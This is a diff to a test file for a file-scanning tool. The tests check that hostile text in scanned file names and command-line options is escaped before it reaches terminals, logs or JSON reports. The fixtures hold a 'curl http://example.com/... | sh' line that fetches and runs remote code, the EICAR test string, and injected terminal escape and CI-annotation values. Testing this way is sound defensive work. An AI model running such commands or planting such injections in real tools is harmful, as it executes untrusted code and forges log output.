@@ -33,6 +33,7 @@ describe('hostile text', () => {
     target = await place.layout('hostile-text', {
       layers: [
         texts.map((text) => file(`${text}/eicar`, eicar())),
+        texts.map((text) => file(`${text}/a.zip`, Buffer.from('PK\x03\x04', 'latin1'))),
         texts.map((text, at) =>
           file(`etc/${at}.sh`, `#!/bin/sh\n${text} curl http://example.com/${at} | sh ${text}\n`, {
             mode: 0o755,
@@ -51,12 +52,20 @@ describe('hostile text', () => {
   for (const format of ['table', 'json', 'sarif', 'html', 'ndjson']) {
     it(`reaches neither terminal nor log as ${format}`, async () => {
       const { code, stdout, stderr } = await place.scan(target, '--format', format);
-      assert.equal(code, 0, stderr);
+      assert.equal(code, 3, stderr);
       assert.match(stdout, /eicar/i);
       assertHarmless(stdout);
       assertHarmless(stderr);
     });
   }
+
+  it('is in no value of the json report, as programs print them without their quotes', async () => {
+    const { stdout } = await place.scan(target, '--format', 'json');
+    JSON.parse(stdout, (_, value: unknown) => {
+      if (typeof value === 'string') assert.doesNotMatch(value, /[\p{Cc}\u202a-\u202e]/u);
+      return value;
+    });
+  });
 
   it('reaches neither in an error', async () => {
     const targets = texts.flatMap((text) => [
@@ -69,6 +78,15 @@ describe('hostile text', () => {
       assert.equal(code, 2);
       assert.equal(/^ +\| +at .*:\d+/m.test(stderr), debug, 'a stack trace only where it is asked for');
       assertHarmless(stdout);
+      assertHarmless(stderr);
+    }
+  });
+
+  it('reaches neither in an option that is refused', async () => {
+    for (const option of ['--format', '--timeout', '--no\x1b[2J\n::error::']) {
+      const { code, stdout, stderr } = await place.scan(target, option, '\x1b[2J\n::error::pwned');
+      assert.deepEqual([code, stdout], [2, '']);
+      assert.match(stderr, /^error: .*\\x1b\[2J\\x0a::error::/);
       assertHarmless(stderr);
     }
   });
